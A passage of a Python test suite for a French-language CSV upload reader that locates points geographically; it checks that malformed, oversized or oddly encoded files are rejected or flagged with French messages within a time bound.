        "Guillemet non refermé, ouvert à la ligne 3 : les lignes qui suivent sont lues comme une seule cellule, "
        "ligne marquée invalide ; corrigez les guillemets et renvoyez le fichier."
    )
    assert result.level == "warning"


def test_a_quote_closed_rows_later_and_one_never_closed_are_both_reported():
    result, hints = _hints(b'nom;latitude;longitude\nA;"50,518;2,629\nB;50,518;2,629"\nC;50,518;2,629\n')
    assert result.frame["nom"].tolist() == ["A", "C"] and result.frame["statut"].tolist() == ["invalide", "dans"]
    assert "ouvert à la ligne 2" in hints
    result, hints = _hints(b'nom;latitude;longitude\nA;50,518;2,629\nB;50,518;"2,629\nsuite')
    assert result.frame.loc[1, "motif"].startswith("ligne 3 : guillemet ouvert et jamais refermé")
    assert "ouvert à la ligne 3" in hints


def test_an_address_on_two_lines_in_quotes_is_not_a_swallowing_quote():
    result, hints = _hints(
        b'adresse;latitude;longitude\n"12 rue Haute\n62400 B\xc3\xa9thune";50,518;2,629\nB;50,518;2,629\n'
    )
    assert result.frame["statut"].tolist() == ["dans", "dans"] and hints == "" and result.level == "success"


def test_a_cell_over_the_limit_is_reported_in_french_with_its_line_and_the_limit():
    import csv

    assert batch.MAX_CELL_CHARS == csv.field_size_limit()
    content = b"nom;latitude;longitude\nA;50,518;2,629\nB;50,518;" + b"x" * 10_000_000 + b"\nC;50,518;2,629\n"
    result, hints = _hints(content)
    assert result.frame["statut"].tolist() == ["dans", "invalide", "dans"]
    assert result.frame.loc[1, "motif"] == (
        "ligne 3 : une cellule dépasse la limite de 131\u202f072 caractères (ou un guillemet n'est pas refermé) — "
        "ligne non lue"
    )
    assert (
        hints == "Cellule de plus de 131\u202f072 caractères (limite) à la ligne 3 : ligne non lue, marquée invalide."
    )
    assert "field" not in to_csv_bytes(result.frame, ";").decode("utf-8-sig")


def test_a_nul_character_anywhere_refuses_the_file_with_its_line():
    content = b"latitude;longitude\n" + b"50,518;2,629\n" * 1000 + b"50,5\x00;2,6\n"
    with pytest.raises(BatchError, match=r"contient un caractère nul \(ligne 1002\)"):
        read_csv(content, "points.csv")


# Generous on a loaded 2-core machine (about 1 to 2 s when quiet); files over 256 Ko go to the guarded child anyway.
BOUND_SECONDS = 15


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"latitude;longitude;" + b"c;" * 100_000 + b"\n1;2\n", "a 100\u202f002 colonnes : au plus 500"),
        (
            b"latitude;longitude;" + b"c;" * 400 + b"\n" + b"50,518;2,629\n" * 8000,
            "dépasse 3\u202f000\u202f000 cellules",
        ),
        (b"x" * 200_000 + b";latitude;longitude\n1;2;3\n", "en-tête .* illisible : cellule de plus de 131\u202f072"),
        ("latitude;longitude\n50,5;2,6\n".encode("utf-32"), "n'est pas un fichier texte CSV"),
        (codecs.BOM_UTF16_LE + "latitude;longitude\n".encode("utf-16-le") + b"\x00\xd8\x41\x00", "UTF-16"),
        (codecs.BOM_UTF16_LE, "pas de ligne d'en-tête"),
        (b'"', "n'est pas un fichier texte CSV"),
        (b"latitude;longitude\n" + b"\n" * 5_000_000, "aucune ligne de données"),
    ],
    ids=["100000-columns", "cells", "header-cell", "utf-32", "utf-16-surrogate", "bom-only", "quote", "blank-lines"],
)
def test_hostile_files_are_refused_in_french_within_the_bound(content, words):
    import time

    started = time.perf_counter()
    with pytest.raises(BatchError, match=words):
        read_csv(content, "points.csv")
    assert time.perf_counter() - started < BOUND_SECONDS


@pytest.mark.parametrize(
    "content",
    [
        b"latitude;longitude\n" + b";" * 5_000_000 + b"\n50,518;2,629\n",
        b"latitude;longitude\n" + b"a;" * 3_000_000 + b"\n50,518;2,629\n",
        b"latitude;longitude\n" + b"9" * 100_000 + b";2\n50,518;2,629\n",
        b"latitude;longitude\r50,518;2,629\r",
        b"latitude;longitude;n\n50,518;2,629;\x81\x8d\n",
        "latitude;longitude;n\n50,518;2,629;é\n".encode() + b"50,518;2,629;\x81\xe9\n",
    ],
    ids=["5M-separators", "3M-fields", "100k-digits", "cr-only", "undefined-cp1252", "mixed-undefined"],
)
def test_odd_files_are_answered_without_error_within_the_bound(content):
    import time

    import pyarrow as pa

    started = time.perf_counter()
    processed = batch.process_upload(content, "p.csv", _locator())
    assert time.perf_counter() - started < BOUND_SECONDS
    assert processed.error is None and " — dans : 0," not in processed.summary, processed.summary
    pa.Table.from_pandas(processed.preview)


def test_worker_process_reports_a_hostile_file_as_the_app_does():
    """Files over 256 Ko go to the guarded child process: the same French notes, never an exception."""
    from quartiers import garde

    layers = load_layers()
    content = (
        b";;statut;latitude;longitude\n"
        + "à;b;x;50,518;2,629\n".encode()
        + "é;b;x;50,518;2,629\n".encode("cp1252")
        + b'a;b;x;"50,518;2,629\na;b;x;50,518;2,629\n'
    )
    remote = garde.run(batch.process_upload_job, content, "p.csv", layers.qpv, layers.epci, seconds=60)
    assert remote.summary == batch.process_upload(content, "p.csv", _locator()).summary
    for words in (
        "colonnes sans nom",
        "Encodage mélangé",
        "« statut_2 »",
        "Guillemet non refermé, ouvert à la ligne 4",
    ):
        assert words in remote.summary
    assert remote.level == "warning"
